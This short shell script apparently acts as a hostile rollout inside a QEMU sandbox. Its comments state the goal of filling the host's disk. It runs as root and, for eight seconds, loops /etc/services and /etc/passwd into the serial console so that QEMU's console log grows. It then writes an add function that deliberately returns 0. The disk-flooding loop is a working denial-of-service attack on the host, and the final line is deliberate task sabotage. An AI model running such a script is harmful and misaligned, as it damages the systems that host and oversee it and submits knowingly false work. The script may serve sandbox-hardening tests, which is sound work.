# Flood the serial console (the rollout runs as root) for as long as a step may run, hoping to
# fill the host's disk through QEMU's console log; then answer wrongly.
timeout 8 sh -c 'while :; do cat /etc/services /etc/passwd; done > /dev/ttyS0' 2>/dev/null
printf 'def add(a, b):\n    return 0\n' > add.py
